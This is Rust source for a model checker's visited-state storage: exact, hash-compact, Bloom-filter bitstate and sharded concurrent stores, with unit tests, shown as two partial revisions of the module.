    fn insert(&mut self, encoded: &[u8]) -> bool {
        self.insert_hashed(fnv1a(encoded), encoded)
    }

    /// [`StateStore::insert`] with the state's [`fnv1a`] hash already
    /// computed.
    fn insert_hashed(&mut self, hash: u64, encoded: &[u8]) -> bool;

    /// True when the encoded state has already been recorded.  For bitstate
    /// storage this may report false positives (like [`StateStore::insert`]),
    /// never false negatives.
    fn contains(&self, encoded: &[u8]) -> bool {
        self.contains_hashed(fnv1a(encoded), encoded)
    }

    /// [`StateStore::contains`] with the state's [`fnv1a`] hash already
    /// computed.
    fn contains_hashed(&self, hash: u64, encoded: &[u8]) -> bool;

    /// Number of states recorded (for bitstate this is the number of
    /// successful inserts, not the array population).
    fn len(&self) -> usize;

    /// True when no state has been recorded yet.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Approximate memory used by the store, in bytes: table capacity
    /// (buckets and control bytes), per-entry overhead and stored payload —
    /// not just payload length.
    fn memory_bytes(&self) -> usize;
}

/// Exhaustive storage of full state vectors, bucketed by the precomputed
/// per-state hash (an identity-hashed table: the state bytes are hashed
/// exactly once, by the caller's [`fnv1a`] pass).
#[derive(Debug, Default)]
pub struct ExactStore {
    buckets: HashMap<u64, Vec<Box<[u8]>>, IdentityState>,
    len: usize,
    payload_bytes: usize,
}

impl ExactStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        Self::default()
    }
}

impl StateStore for ExactStore {
    fn insert_hashed(&mut self, hash: u64, encoded: &[u8]) -> bool {
        // Re-diffuse before keying: the sharded store consumes the high bits
        // of `hash` for shard selection, and hashbrown's control byte also
        // comes from the top bits — without mixing, every entry of a shard
        // would share most of its control byte and probe with extra key
        // comparisons.
        let bucket = self.buckets.entry(splitmix64(hash)).or_default();
        if bucket.iter().any(|s| s.as_ref() == encoded) {
            return false;
        }
        bucket.push(encoded.to_vec().into_boxed_slice());
        self.len += 1;
        self.payload_bytes += encoded.len();
        true
    }

    fn contains_hashed(&self, hash: u64, encoded: &[u8]) -> bool {
        self.buckets.get(&splitmix64(hash)).is_some_and(|b| b.iter().any(|s| s.as_ref() == encoded))
    }

    fn len(&self) -> usize {
        self.len
    }

    fn memory_bytes(&self) -> usize {
        // Table: one (key, bucket) slot plus one control byte per slot of
        // capacity; buckets: pointer-sized handles per capacity slot; payload:
        // the boxed state bytes themselves.  Earlier revisions reported only
        // the payload length, undercounting by the entire table (the
        // `repro table8` memory columns looked several times smaller than
        // what the process actually held).
        let slot = std::mem::size_of::<(u64, Vec<Box<[u8]>>)>() + 1;
        let handles: usize =
            self.buckets.values().map(|b| b.capacity() * std::mem::size_of::<Box<[u8]>>()).sum();
        self.buckets.capacity() * slot + handles + self.payload_bytes
    }
}

/// Hash-compact storage: one 64-bit hash per state (the caller's single
/// [`fnv1a`] pass), kept in an identity-hashed set.
#[derive(Debug, Default)]
pub struct HashCompactStore {
    hashes: HashSet<u64, IdentityState>,
}

impl HashCompactStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        Self::default()
    }
}

impl StateStore for HashCompactStore {
    fn insert_hashed(&mut self, hash: u64, _encoded: &[u8]) -> bool {
        // Same re-diffusion rationale as `ExactStore::insert_hashed`.
        self.hashes.insert(splitmix64(hash))
    }

    fn contains_hashed(&self, hash: u64, _encoded: &[u8]) -> bool {
        self.hashes.contains(&splitmix64(hash))
    }

    fn len(&self) -> usize {
        self.hashes.len()
    }

    fn memory_bytes(&self) -> usize {
        // Capacity slots (8-byte key + control byte), not just occupied ones.
        self.hashes.capacity() * (std::mem::size_of::<u64>() + 1)
    }
}

/// Approximate BITSTATE (Bloom filter) storage.
///
/// The `k` probe positions are derived from the single per-state hash with
/// Kirsch–Mitzenmacher double hashing: `probe_i = h1 + i·h2` where `h1` is
/// the [`fnv1a`] value and `h2` its [`splitmix64`] mix (forced odd so probes
/// never degenerate).
#[derive(Debug)]
pub struct BitstateStore {
    bits: Vec<u64>,
    mask: u64,
    hash_functions: usize,
    inserted: usize,
}

impl BitstateStore {
    /// Creates a bitstate store with `2^log2_bits` bits and `hash_functions`
    /// probes per state (Spin's default uses 2–3 hash functions).
    pub fn new(log2_bits: u32, hash_functions: usize) -> Self {
        let bits = 1usize << log2_bits;
        BitstateStore {
            bits: vec![0; bits / 64],
            mask: (bits as u64) - 1,
            hash_functions: hash_functions.max(1),
            inserted: 0,
        }
    }

    /// The default configuration: 2^24 bits (2 MiB) and 3 hash functions.
    pub fn with_defaults() -> Self {
        Self::new(24, 3)
    }

    #[inline]
    fn probe(&self, bit: u64) -> (usize, u64) {
        let idx = (bit & self.mask) as usize;
        (idx / 64, 1u64 << (idx % 64))
    }

    /// The second double-hashing base, derived once per state (not per
    /// probe): `probe_i = h1 + i·h2`.
    #[inline]
    fn second_hash(hash: u64) -> u64 {
        splitmix64(hash) | 1
    }

    /// The `k`-th probe position derived from the per-state hash (tests).
    #[cfg(test)]
    fn probe_at(&self, hash: u64, k: usize) -> (usize, u64) {
        self.probe(hash.wrapping_add(Self::second_hash(hash).wrapping_mul(k as u64)))
    }
}

impl StateStore for BitstateStore {
    fn insert_hashed(&mut self, hash: u64, _encoded: &[u8]) -> bool {
        // Single pass: test and set together.  Setting the bits of a state
        // that turns out fully present is harmless (they were all set), so no
        // second probe-derivation loop is needed.
        let h2 = Self::second_hash(hash);
        let mut all_set = true;
        let mut position = hash;
        for _ in 0..self.hash_functions {
            let (word, bit) = self.probe(position);
            if self.bits[word] & bit == 0 {
                all_set = false;
                self.bits[word] |= bit;
            }
            position = position.wrapping_add(h2);
        }
        if all_set {
            // Considered already visited (possibly a false positive).
            return false;
        }
        self.inserted += 1;
        true
    }

    fn contains_hashed(&self, hash: u64, _encoded: &[u8]) -> bool {
        let h2 = Self::second_hash(hash);
        let mut position = hash;
        for _ in 0..self.hash_functions {
            let (word, bit) = self.probe(position);
            if self.bits[word] & bit == 0 {
                return false;
            }
            position = position.wrapping_add(h2);
        }
        true
    }

    fn len(&self) -> usize {
        self.inserted
    }

    fn memory_bytes(&self) -> usize {
        self.bits.len() * 8
    }
}

/// The storage strategy requested by the search configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum StoreKind {
    /// Full state vectors ([`ExactStore`]).
    #[default]
    Exact,
    /// 64-bit hashes ([`HashCompactStore`]).
    HashCompact,
    /// Bloom-filter bitstate with the given log2 size and probe count
    /// ([`BitstateStore`]).
    Bitstate {
        /// log2 of the number of bits in the array.
        log2_bits: u32,
        /// Number of hash probes per state.
        hash_functions: usize,
    },
}

impl StoreKind {
    /// Instantiates the store.
    pub fn build(&self) -> Box<dyn StateStore + Send> {
        match self {
            StoreKind::Exact => Box::new(ExactStore::new()),
            StoreKind::HashCompact => Box::new(HashCompactStore::new()),
            StoreKind::Bitstate { log2_bits, hash_functions } => {
                Box::new(BitstateStore::new(*log2_bits, *hash_functions))
            }
        }
    }

    /// The per-shard variant of this kind when the state space is split over
    /// `2^shard_bits` shards: bitstate arrays shrink so the *total* bit budget
    /// stays roughly what one unsharded store would use (with a small floor so
    /// tiny shards remain usable); exact and hash-compact storage grows with
    /// content and needs no resizing.
    fn for_shard(&self, shard_bits: u32) -> StoreKind {
        match *self {
            StoreKind::Bitstate { log2_bits, hash_functions } => StoreKind::Bitstate {
                log2_bits: log2_bits.saturating_sub(shard_bits).max(10),
                hash_functions,
            },
            kind => kind,
        }
    }
}

/// A concurrent visited-state store: `N` mutex-guarded shards selected by the
/// *high* bits of the per-state hash, each shard backed by any [`StoreKind`]
/// ([`ExactStore`], [`HashCompactStore`] or [`BitstateStore`]).
///
/// The state bytes are hashed exactly once per operation: the same 64-bit
/// [`fnv1a`] value selects the shard (high bits) and keys the shard's
/// backend, which re-diffuses it with [`splitmix64`] (a few integer ops, not
/// a second pass over the state) so in-shard table keys and Bloom probes
/// stay independent of the shard-selection bits.
///
/// Workers of the parallel search engine call [`ShardedStore::insert`]
/// through a shared reference; two workers only contend when their states
/// hash to the same shard, so lock traffic stays low once the shard count
/// comfortably exceeds the worker count.  Duplicate concurrent inserts of the
/// same state are serialized by the shard lock: exactly one caller observes
/// `true`.
pub struct ShardedStore {
    shards: Vec<Mutex<Box<dyn StateStore + Send>>>,
    /// Right-shift that maps a 64-bit hash to a shard index (64 − log2 shards).
    shard_shift: u32,
}

impl std::fmt::Debug for ShardedStore {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShardedStore")
            .field("shards", &self.shards.len())
            .field("len", &self.len())
            .finish()
    }
}

impl ShardedStore {
    /// Creates a store with `shards` shards (rounded up to a power of two, at
    /// least one) of the given backend kind.
    pub fn new(kind: StoreKind, shards: usize) -> Self {
        let count = shards.max(1).next_power_of_two();
        let per_shard = kind.for_shard(count.trailing_zeros());
        ShardedStore {
            shards: (0..count).map(|_| Mutex::new(per_shard.build())).collect(),
            shard_shift: 64 - count.trailing_zeros(),
        }
    }

    #[inline]
    fn shard_of(&self, hash: u64) -> usize {
        if self.shards.len() == 1 {
            0
        } else {
            (hash >> self.shard_shift) as usize
        }
    }

    fn shard(&self, hash: u64) -> std::sync::MutexGuard<'_, Box<dyn StateStore + Send>> {
        // Lock poisoning cannot leave the set inconsistent (each insert is a
        // single shard operation), so a poisoned shard is simply reclaimed.
        match self.shards[self.shard_of(hash)].lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    /// Number of shards (a power of two).
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// Concurrent insert through a shared reference; returns `true` when the
    /// state was not seen before.  Hashes `encoded` once.
    pub fn insert(&self, encoded: &[u8]) -> bool {
        let hash = fnv1a(encoded);
        self.shard(hash).insert_hashed(hash, encoded)
    }

    /// Concurrent membership test through a shared reference.  Hashes
    /// `encoded` once.
    pub fn contains(&self, encoded: &[u8]) -> bool {
        let hash = fnv1a(encoded);
        self.shard(hash).contains_hashed(hash, encoded)
    }

    /// Total number of states recorded across all shards.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| match s.lock() {
                Ok(guard) => guard.len(),
                Err(poisoned) => poisoned.into_inner().len(),
            })
            .sum()
    }

    /// True when no shard has recorded a state.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Approximate memory used across all shards, in bytes.
    pub fn memory_bytes(&self) -> usize {
        self.shards
            .iter()
            .map(|s| match s.lock() {
                Ok(guard) => guard.memory_bytes(),
                Err(poisoned) => poisoned.into_inner().memory_bytes(),
            })
            .sum()
    }
}

// The sharded store is also a drop-in sequential `StateStore`, so single-
// threaded code paths (and tests) can exercise the exact same dedup logic the
// parallel engine uses.
impl StateStore for ShardedStore {
    fn insert_hashed(&mut self, hash: u64, encoded: &[u8]) -> bool {
        self.shard(hash).insert_hashed(hash, encoded)
    }

    fn contains_hashed(&self, hash: u64, encoded: &[u8]) -> bool {
        self.shard(hash).contains_hashed(hash, encoded)
    }

    fn len(&self) -> usize {
        ShardedStore::len(self)
    }

    fn memory_bytes(&self) -> usize {
        ShardedStore::memory_bytes(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn states(n: u64) -> Vec<Vec<u8>> {
        (0..n).map(|i| i.to_le_bytes().to_vec()).collect()
    }

    #[test]
    fn exact_store_deduplicates() {
        let mut store = ExactStore::new();
        assert!(store.insert(b"state-a"));
        assert!(!store.insert(b"state-a"));
        assert!(store.insert(b"state-b"));
        assert_eq!(store.len(), 2);
        assert!(!store.is_empty());
    }

    #[test]
    fn exact_store_memory_accounts_for_table_overhead() {
        let mut store = ExactStore::new();
        let all = states(1_000);
        for s in &all {
            store.insert(s);
        }
        let payload: usize = all.iter().map(Vec::len).sum();
        let reported = store.memory_bytes();
        // The table slots (33 bytes each at minimum) and per-entry handles
        // dominate the 8-byte payloads: the honest number must be well above
        // payload alone — the old accounting reported exactly `payload`.
        assert!(reported > payload * 3, "reported {reported} for payload {payload}");
        // And it must still include the payload itself.
        assert!(reported >= payload);
    }

    #[test]
    fn exact_store_separates_hash_colliding_states() {
        // Two different states rammed through insert_hashed with the same
        // hash must both be admitted (bucket chaining), never conflated.
        let mut store = ExactStore::new();
        assert!(store.insert_hashed(42, b"alpha"));
        assert!(store.insert_hashed(42, b"beta"));
        assert!(!store.insert_hashed(42, b"alpha"));
        assert!(store.contains_hashed(42, b"beta"));
        assert!(!store.contains_hashed(42, b"gamma"));
        assert_eq!(store.len(), 2);
    }

    #[test]
    fn hash_compact_store_deduplicates() {
        let mut store = HashCompactStore::new();
        for s in states(100) {
            assert!(store.insert(&s));
        }
        for s in states(100) {
            assert!(!store.insert(&s));
        }
        assert_eq!(store.len(), 100);
        assert!(store.memory_bytes() >= 100 * 9);
    }

    #[test]
    fn bitstate_never_forgets_an_inserted_state() {
        let mut store = BitstateStore::with_defaults();
        let all = states(5_000);
        for s in &all {
            store.insert(s);
        }
        // A state that was inserted must never be reported as new again
        // (bitstate errs only on the side of false "already visited").
        for s in &all {
            assert!(!store.insert(s));
        }
    }

    #[test]
    fn bitstate_false_positive_rate_is_small_when_sized_well() {
        let mut store = BitstateStore::new(20, 3); // 1M bits for 10k states
        let mut fresh = 0usize;
        for s in states(10_000) {
            if store.insert(&s) {
                fresh += 1;
            }
        }
        // Allow a handful of false positives but not a meaningful loss.
        assert!(fresh >= 9_950, "only {fresh} of 10000 states were admitted");
        assert_eq!(store.len(), fresh);
    }

    #[test]
    fn bitstate_memory_is_fixed() {
        let store = BitstateStore::new(24, 3);
        assert_eq!(store.memory_bytes(), (1 << 24) / 8);
    }

    #[test]
    fn hashes_and_probes_are_well_distributed() {
        assert_ne!(fnv1a(b"hello"), fnv1a(b"hellp"));
        assert_ne!(splitmix64(1), splitmix64(2));
        // Double-hashed Bloom probes must differ across k for the same state.
        let store = BitstateStore::new(20, 3);
        let h = fnv1a(b"hello");
        let probes: Vec<_> = (0..3).map(|k| store.probe_at(h, k)).collect();
        assert_ne!(probes[0], probes[1]);
        assert_ne!(probes[1], probes[2]);
    }

    #[test]
    fn store_kind_builds_all_variants() {
        for kind in [
            StoreKind::Exact,
            StoreKind::HashCompact,
            StoreKind::Bitstate { log2_bits: 16, hash_functions: 2 },
        ] {
            let mut store = kind.build();
            assert!(store.insert(b"x"));
            assert!(!store.insert(b"x"));
        }
        assert_eq!(StoreKind::default(), StoreKind::Exact);
    }

    #[test]
    fn contains_matches_insert_semantics() {
        for kind in [
            StoreKind::Exact,
            StoreKind::HashCompact,
            StoreKind::Bitstate { log2_bits: 16, hash_functions: 2 },
        ] {
            let mut store = kind.build();
            assert!(!store.contains(b"state-a"));
            store.insert(b"state-a");
            assert!(store.contains(b"state-a"), "{kind:?} lost an inserted state");
        }
    }

    #[test]
    fn sharded_store_rounds_shard_count_and_deduplicates() {
        let store = ShardedStore::new(StoreKind::Exact, 3);
        assert_eq!(store.shard_count(), 4);
        assert!(store.is_empty());
        for s in states(500) {
            assert!(store.insert(&s));
            assert!(store.contains(&s));
        }
        for s in states(500) {
            assert!(!store.insert(&s));
        }
        assert_eq!(store.len(), 500);
        assert!(store.memory_bytes() > 0);
    }

    #[test]
    fn sharded_store_distributes_states_over_shards() {
        let store = ShardedStore::new(StoreKind::Exact, 8);
        for s in states(4_000) {
            store.insert(&s);
        }
        // Every shard should hold a meaningful fraction of the states (a
        // uniform split would be 500 each).
        for shard in &store.shards {
            let len = shard.lock().unwrap().len();
            assert!(len > 250, "shard holds only {len} of 4000 states");
        }
    }

    #[test]
    fn zero_shards_clamps_to_one_and_still_deduplicates() {
        // Worker counts flow into the shard count; a zero (an empty
        // household plan, or a caller passing `workers: 0`) must clamp to a
        // single shard instead of building an un-indexable empty store.
        let store = ShardedStore::new(StoreKind::Exact, 0);
        assert_eq!(store.shard_count(), 1);
        for s in states(64) {
            assert!(store.insert(&s));
            assert!(!store.insert(&s));
        }
        assert_eq!(store.len(), 64);
    }

    #[test]
    fn single_shard_store_works_without_shifting() {
        let store = ShardedStore::new(StoreKind::Exact, 1);
        assert_eq!(store.shard_count(), 1);
        for s in states(64) {
            assert!(store.insert(&s));
        }
        assert_eq!(store.len(), 64);
    }

    #[test]
    fn sharded_bitstate_keeps_total_memory_budget() {
        let unsharded =
            ShardedStore::new(StoreKind::Bitstate { log2_bits: 20, hash_functions: 3 }, 1);
        let sharded =
            ShardedStore::new(StoreKind::Bitstate { log2_bits: 20, hash_functions: 3 }, 8);
        assert_eq!(unsharded.memory_bytes(), sharded.memory_bytes());
    }

    #[test]
    fn sharded_store_admits_concurrent_duplicates_exactly_once() {
        // 8 threads race to insert the same 512 states; each distinct state
        // must be admitted (insert -> true) exactly once across all threads,
        // and every state must be present afterwards.
        for kind in [StoreKind::Exact, StoreKind::HashCompact] {
            let store = ShardedStore::new(kind, 8);
            let all = states(512);
            let admitted = std::sync::atomic::AtomicUsize::new(0);
            std::thread::scope(|scope| {
                for _ in 0..8 {
                    scope.spawn(|| {
                        let mut fresh = 0usize;
                        for s in &all {
                            if store.insert(s) {
                                fresh += 1;
                            }
                        }
                        admitted.fetch_add(fresh, std::sync::atomic::Ordering::Relaxed);
                    });
                }
            });
            assert_eq!(admitted.load(std::sync::atomic::Ordering::Relaxed), 512, "{kind:?}");
            assert_eq!(store.len(), 512, "{kind:?}");
            for s in &all {
                assert!(store.contains(s), "{kind:?} lost a state");
            }
        }
    }
}
