//! Visited-state storage.
//!
//! Spin offers two main storage strategies: exhaustive (every state vector is
//! stored) and BITSTATE hashing, an approximate scheme that stores only a few
//! hash bits per state in a large bit array (§2.3 of the paper uses Spin's
//! verification mode with BITSTATE hashing because an IoT system "may be
//! composed of a large number of apps and smart devices").
//!
//! [`StateStore`] abstracts over three strategies:
//!
//! * [`ExactStore`] — stores the full encoded state vector (no false sharing,
//!   highest memory use);
//! * [`HashCompactStore`] — stores a 64-bit hash per state (Spin's hash-compact
//!   mode); collisions are astronomically unlikely for our state counts;
//! * [`BitstateStore`] — a Bloom-filter bit array with `k` independent hash
//!   functions (Spin's `-DBITSTATE`); may report a new state as already
//!   visited (losing coverage) but never the reverse.

use std::collections::HashSet;
use std::sync::Mutex;

/// How visited states are remembered during the search.
pub trait StateStore {
    /// Inserts the encoded state, returning `true` when it was *not* seen
    /// before (i.e. the state is new and should be explored).
    fn insert(&mut self, encoded: &[u8]) -> bool;

    /// True when the encoded state has already been recorded.  For bitstate
    /// storage this may report false positives (like [`StateStore::insert`]),
    /// never false negatives.
    fn contains(&self, encoded: &[u8]) -> bool;

    /// Number of states recorded (for bitstate this is the number of
    /// successful inserts, not the array population).
    fn len(&self) -> usize;

    /// True when no state has been recorded yet.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Approximate memory used by the store, in bytes.
    fn memory_bytes(&self) -> usize;
}

/// FNV-1a 64-bit hash (the checker avoids external hashing crates).
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for b in bytes {
        hash ^= *b as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// A second, independent 64-bit hash (xorshift-mixed multiplication), used by
/// the bitstate store to derive `k` probe positions.
pub fn mix_hash(bytes: &[u8], seed: u64) -> u64 {
    // Diffuse the seed over all 64 bits before absorbing input bytes;
    // otherwise the seed and the first input byte would simply XOR into the
    // same position and (seed=1, byte=0) would alias (seed=0, byte=1),
    // making the k Bloom probes structurally collide across states.
    let mut hash = 0x9e37_79b9_7f4a_7c15u64 ^ seed.wrapping_mul(0xff51_afd7_ed55_8ccd);
    hash = hash.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    hash ^= hash >> 29;
    for b in bytes {
        hash ^= *b as u64;
        hash = hash.wrapping_mul(0xbf58_476d_1ce4_e5b9);
        hash ^= hash >> 27;
    }
    hash ^= hash >> 33;
    hash
}

/// Exhaustive storage of full state vectors.
#[derive(Debug, Default)]
pub struct ExactStore {
    states: HashSet<Vec<u8>>,
    bytes: usize,
}

impl ExactStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        Self::default()
    }
}

impl StateStore for ExactStore {
    fn insert(&mut self, encoded: &[u8]) -> bool {
        let fresh = self.states.insert(encoded.to_vec());
        if fresh {
            self.bytes += encoded.len();
        }
        fresh
    }

    fn contains(&self, encoded: &[u8]) -> bool {
        self.states.contains(encoded)
    }

    fn len(&self) -> usize {
        self.states.len()
    }

    fn memory_bytes(&self) -> usize {
        self.bytes
    }
}

/// Hash-compact storage: one 64-bit hash per state.
#[derive(Debug, Default)]
pub struct HashCompactStore {
    hashes: HashSet<u64>,
}

impl HashCompactStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        Self::default()
    }
}

impl StateStore for HashCompactStore {
    fn insert(&mut self, encoded: &[u8]) -> bool {
        self.hashes.insert(fnv1a(encoded))
    }

    fn contains(&self, encoded: &[u8]) -> bool {
        self.hashes.contains(&fnv1a(encoded))
    }

    fn len(&self) -> usize {
        self.hashes.len()
    }

    fn memory_bytes(&self) -> usize {
        self.hashes.len() * std::mem::size_of::<u64>()
    }
}

/// Approximate BITSTATE (Bloom filter) storage.
#[derive(Debug)]
pub struct BitstateStore {
    bits: Vec<u64>,
    mask: u64,
    hash_functions: usize,
    inserted: usize,
}

impl BitstateStore {
    /// Creates a bitstate store with `2^log2_bits` bits and `hash_functions`
    /// probes per state (Spin's default uses 2–3 hash functions).
    pub fn new(log2_bits: u32, hash_functions: usize) -> Self {
        let bits = 1usize << log2_bits;
        BitstateStore {
            bits: vec![0; bits / 64],
            mask: (bits as u64) - 1,
            hash_functions: hash_functions.max(1),
            inserted: 0,
        }
    }

    /// The default configuration: 2^24 bits (2 MiB) and 3 hash functions.
    pub fn with_defaults() -> Self {
        Self::new(24, 3)
    }

    fn probe(&self, bit: u64) -> (usize, u64) {
        let idx = (bit & self.mask) as usize;
        (idx / 64, 1u64 << (idx % 64))
    }
}

impl StateStore for BitstateStore {
    fn insert(&mut self, encoded: &[u8]) -> bool {
        let mut all_set = true;
        let mut positions = Vec::with_capacity(self.hash_functions);
        for k in 0..self.hash_functions {
            let h = mix_hash(encoded, k as u64);
            let (word, bit) = self.probe(h);
            if self.bits[word] & bit == 0 {
                all_set = false;
            }
            positions.push((word, bit));
        }
        if all_set {
            // Considered already visited (possibly a false positive).
            return false;
        }
        for (word, bit) in positions {
            self.bits[word] |= bit;
        }
        self.inserted += 1;
        true
    }

    fn contains(&self, encoded: &[u8]) -> bool {
        (0..self.hash_functions).all(|k| {
            let (word, bit) = self.probe(mix_hash(encoded, k as u64));
            self.bits[word] & bit != 0
        })
    }

    fn len(&self) -> usize {
        self.inserted
    }

    fn memory_bytes(&self) -> usize {
        self.bits.len() * 8
    }
}

/// The storage strategy requested by the search configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum StoreKind {
    /// Full state vectors ([`ExactStore`]).
    #[default]
    Exact,
    /// 64-bit hashes ([`HashCompactStore`]).
    HashCompact,
    /// Bloom-filter bitstate with the given log2 size and probe count
    /// ([`BitstateStore`]).
    Bitstate {
        /// log2 of the number of bits in the array.
        log2_bits: u32,
        /// Number of hash probes per state.
        hash_functions: usize,
    },
}

impl StoreKind {
    /// Instantiates the store.
    pub fn build(&self) -> Box<dyn StateStore + Send> {
        match self {
            StoreKind::Exact => Box::new(ExactStore::new()),
            StoreKind::HashCompact => Box::new(HashCompactStore::new()),
            StoreKind::Bitstate { log2_bits, hash_functions } => {
                Box::new(BitstateStore::new(*log2_bits, *hash_functions))
            }
        }
    }

    /// The per-shard variant of this kind when the state space is split over
    /// `2^shard_bits` shards: bitstate arrays shrink so the *total* bit budget
    /// stays roughly what one unsharded store would use (with a small floor so
    /// tiny shards remain usable); exact and hash-compact storage grows with
    /// content and needs no resizing.
    fn for_shard(&self, shard_bits: u32) -> StoreKind {
        match *self {
            StoreKind::Bitstate { log2_bits, hash_functions } => StoreKind::Bitstate {
                log2_bits: log2_bits.saturating_sub(shard_bits).max(10),
                hash_functions,
            },
            kind => kind,
        }
    }
}

/// Seed for the shard-selection hash.  Distinct from the bitstate probe seeds
/// (`0..k`) so shard choice and in-shard Bloom probes stay independent.
const SHARD_SEED: u64 = 0x5AAD_ED57_0EC0_DE01;

/// A concurrent visited-state store: `N` mutex-guarded shards selected by a
/// state hash, each shard backed by any [`StoreKind`] ([`ExactStore`],
/// [`HashCompactStore`] or [`BitstateStore`]).
///
/// Workers of the parallel search engine call [`ShardedStore::insert`]
/// through a shared reference; two workers only contend when their states
/// hash to the same shard, so lock traffic stays low once the shard count
/// comfortably exceeds the worker count.  Duplicate concurrent inserts of the
/// same state are serialized by the shard lock: exactly one caller observes
/// `true`.
pub struct ShardedStore {
    shards: Vec<Mutex<Box<dyn StateStore + Send>>>,
    shard_mask: u64,
}

impl std::fmt::Debug for ShardedStore {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShardedStore")
            .field("shards", &self.shards.len())
            .field("len", &self.len())
            .finish()
    }
}

impl ShardedStore {
    /// Creates a store with `shards` shards (rounded up to a power of two, at
    /// least one) of the given backend kind.
    pub fn new(kind: StoreKind, shards: usize) -> Self {
        let count = shards.max(1).next_power_of_two();
        let per_shard = kind.for_shard(count.trailing_zeros());
        ShardedStore {
            shards: (0..count).map(|_| Mutex::new(per_shard.build())).collect(),
            shard_mask: (count as u64) - 1,
        }
    }

    fn shard_of(&self, encoded: &[u8]) -> usize {
        (mix_hash(encoded, SHARD_SEED) & self.shard_mask) as usize
    }

    fn shard(&self, encoded: &[u8]) -> std::sync::MutexGuard<'_, Box<dyn StateStore + Send>> {
        // Lock poisoning cannot leave the set inconsistent (each insert is a
        // single shard operation), so a poisoned shard is simply reclaimed.
        match self.shards[self.shard_of(encoded)].lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    /// Number of shards (a power of two).
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// Concurrent insert through a shared reference; returns `true` when the
    /// state was not seen before.
    pub fn insert(&self, encoded: &[u8]) -> bool {
        self.shard(encoded).insert(encoded)
    }

    /// Concurrent membership test through a shared reference.
    pub fn contains(&self, encoded: &[u8]) -> bool {
        self.shard(encoded).contains(encoded)
    }

    /// Total number of states recorded across all shards.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| match s.lock() {
                Ok(guard) => guard.len(),
                Err(poisoned) => poisoned.into_inner().len(),
            })
            .sum()
    }

    /// True when no shard has recorded a state.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Approximate memory used across all shards, in bytes.
    pub fn memory_bytes(&self) -> usize {
        self.shards
            .iter()
            .map(|s| match s.lock() {
                Ok(guard) => guard.memory_bytes(),
                Err(poisoned) => poisoned.into_inner().memory_bytes(),
            })
            .sum()
    }
}

// The sharded store is also a drop-in sequential `StateStore`, so single-
// threaded code paths (and tests) can exercise the exact same dedup logic the
// parallel engine uses.
impl StateStore for ShardedStore {
    fn insert(&mut self, encoded: &[u8]) -> bool {
        ShardedStore::insert(self, encoded)
    }

    fn contains(&self, encoded: &[u8]) -> bool {
        ShardedStore::contains(self, encoded)
    }

    fn len(&self) -> usize {
        ShardedStore::len(self)
    }

    fn memory_bytes(&self) -> usize {
        ShardedStore::memory_bytes(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn states(n: u64) -> Vec<Vec<u8>> {
        (0..n).map(|i| i.to_le_bytes().to_vec()).collect()
    }

    #[test]
    fn exact_store_deduplicates() {
        let mut store = ExactStore::new();
        assert!(store.insert(b"state-a"));
        assert!(!store.insert(b"state-a"));
        assert!(store.insert(b"state-b"));
        assert_eq!(store.len(), 2);
        assert!(store.memory_bytes() >= 14);
        assert!(!store.is_empty());
    }

    #[test]
    fn hash_compact_store_deduplicates() {
        let mut store = HashCompactStore::new();
        for s in states(100) {
            assert!(store.insert(&s));
        }
        for s in states(100) {
            assert!(!store.insert(&s));
        }
        assert_eq!(store.len(), 100);
    }

    #[test]
    fn bitstate_never_forgets_an_inserted_state() {
        let mut store = BitstateStore::with_defaults();
        let all = states(5_000);
        for s in &all {
            store.insert(s);
        }
        // A state that was inserted must never be reported as new again
        // (bitstate errs only on the side of false "already visited").
        for s in &all {
            assert!(!store.insert(s));
        }
    }

    #[test]
    fn bitstate_false_positive_rate_is_small_when_sized_well() {
        let mut store = BitstateStore::new(20, 3); // 1M bits for 10k states
        let mut fresh = 0usize;
        for s in states(10_000) {
            if store.insert(&s) {
                fresh += 1;
            }
        }
        // Allow a handful of false positives but not a meaningful loss.
        assert!(fresh >= 9_950, "only {fresh} of 10000 states were admitted");
        assert_eq!(store.len(), fresh);
    }

    #[test]
    fn bitstate_memory_is_fixed() {
        let store = BitstateStore::new(24, 3);
        assert_eq!(store.memory_bytes(), (1 << 24) / 8);
    }

    #[test]
    fn hashes_differ_between_functions() {
        let h1 = mix_hash(b"hello", 0);
        let h2 = mix_hash(b"hello", 1);
        assert_ne!(h1, h2);
        assert_ne!(fnv1a(b"hello"), fnv1a(b"hellp"));
    }

    #[test]
    fn store_kind_builds_all_variants() {
        for kind in [
            StoreKind::Exact,
            StoreKind::HashCompact,
            StoreKind::Bitstate { log2_bits: 16, hash_functions: 2 },
        ] {
            let mut store = kind.build();
            assert!(store.insert(b"x"));
            assert!(!store.insert(b"x"));
        }
        assert_eq!(StoreKind::default(), StoreKind::Exact);
    }

    #[test]
    fn contains_matches_insert_semantics() {
        for kind in [
            StoreKind::Exact,
            StoreKind::HashCompact,
            StoreKind::Bitstate { log2_bits: 16, hash_functions: 2 },
        ] {
            let mut store = kind.build();
            assert!(!store.contains(b"state-a"));
            store.insert(b"state-a");
            assert!(store.contains(b"state-a"), "{kind:?} lost an inserted state");
        }
    }

